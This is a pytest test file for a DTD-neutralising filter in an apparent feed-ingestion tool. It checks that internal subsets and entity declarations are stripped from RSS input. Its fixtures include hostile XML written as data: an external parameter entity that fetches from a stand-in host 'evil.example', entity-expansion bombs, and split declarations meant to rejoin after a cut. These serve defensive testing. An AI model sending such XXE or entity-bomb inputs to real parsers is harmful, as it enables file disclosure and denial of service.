"""Tests for stancewatch.ingest.dtd: internal subsets and entity declarations are cut."""

from __future__ import annotations

import codecs

import pytest

from stancewatch.ingest.dtd import neutralize_dtd

ROOT = b'<rss version="2.0"><channel><title>&amp; caf\xc3\xa9 &ent;</title></channel></rss>'


def test_internal_subset_is_removed_and_the_rest_kept_byte_for_byte() -> None:
    data = (
        b'<?xml version="1.0" encoding="utf-8"?>\n<!-- note -->\n'
        b'<!DOCTYPE rss [\n  <!ENTITY ent "x]>y">\n  <!-- a ] in a comment -->\n'
        b"  <!ENTITY % pe SYSTEM 'http://evil.example/x.dtd'>\n  %pe;\n]>\n" + ROOT
    )
    assert neutralize_dtd(data) == (
        b'<?xml version="1.0" encoding="utf-8"?>\n<!-- note -->\n<!DOCTYPE rss >\n' + ROOT
    )


def test_documents_without_a_dtd_are_returned_unchanged() -> None:
    plain = b'<?xml version="1.0"?>\n' + ROOT
    assert neutralize_dtd(plain) is plain
    external = (
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n' + ROOT
    )
    assert neutralize_dtd(external) == external


def test_stray_entity_declarations_in_the_prolog_are_removed() -> None:
    data = b'junk <!ENTITY ent "boom > boom">\n' + ROOT
    assert neutralize_dtd(data) == b"junk \n" + ROOT


def test_markup_after_the_root_element_is_left_alone() -> None:
    data = (
        b'<rss><item><description><![CDATA[<!DOCTYPE x [<!ENTITY a "b">]>]]>'
        b"</description></item></rss>"
    )
    assert neutralize_dtd(data) == data


def test_entity_declarations_inside_a_prolog_comment_are_cut() -> None:
    # feedparser collects ENTITY lines even inside a comment, and expands them.
    data = b'<!-- <!DOCTYPE fake [\n<!ENTITY a "b">\n]> -->\n' + ROOT
    cleaned = neutralize_dtd(data)
    assert b"<!ENTITY" not in cleaned
    assert cleaned.endswith(ROOT)


@pytest.mark.parametrize("odd_element", [b"<:x/>", "<\u00e9/>".encode(), b"<-x/>"])
def test_entity_declarations_after_an_element_feedparser_skips_are_cut(
    odd_element: bytes,
) -> None:
    # feedparser's head ends at the first "<" + ASCII word character only.
    data = b'<?xml version="1.0"?>\n' + odd_element + b'\n<!ENTITY big "lol lol">\n' + ROOT
    cleaned = neutralize_dtd(data)
    assert b"<!ENTITY" not in cleaned
    assert cleaned.endswith(ROOT) and odd_element in cleaned


def test_cut_declarations_cannot_join_into_a_new_one() -> None:
    data = b'<!ENT<!ENTITY x "y">ITY a "boom">\n<!ENTI<!entity q "r">TY b "c">\n' + ROOT
    assert b"<!ENTITY" not in neutralize_dtd(data).upper()


def test_an_unterminated_subset_is_cut_to_the_end() -> None:
    data = b'<!DOCTYPE rss [ <!ENTITY a "never closed' + b" x" * 1000 + ROOT
    assert neutralize_dtd(data) == b"<!DOCTYPE rss "


def test_utf16_documents_keep_their_encoding() -> None:
    text = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss [<!ENTITY a "ä">]><rss>ü</rss>'
    data = codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    result = neutralize_dtd(data)
    assert result.startswith(codecs.BOM_UTF16_LE)
    assert result.decode("utf-16") == (
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss ><rss>ü</rss>'
    )
    no_bom = text.encode("utf-16-be")
    assert neutralize_dtd(no_bom).decode("utf-16-be").endswith("<!DOCTYPE rss ><rss>ü</rss>")


def test_huge_declaration_lists_are_removed_in_one_pass() -> None:
    declarations = b"".join(b'<!ENTITY e%d "%s">\n' % (n, b"&e0;" * 50) for n in range(20_000))
    data = b"<!DOCTYPE rss [\n" + declarations + b"]>" + ROOT
    assert len(data) > 4_000_000
    assert neutralize_dtd(data) == b"<!DOCTYPE rss >" + ROOT
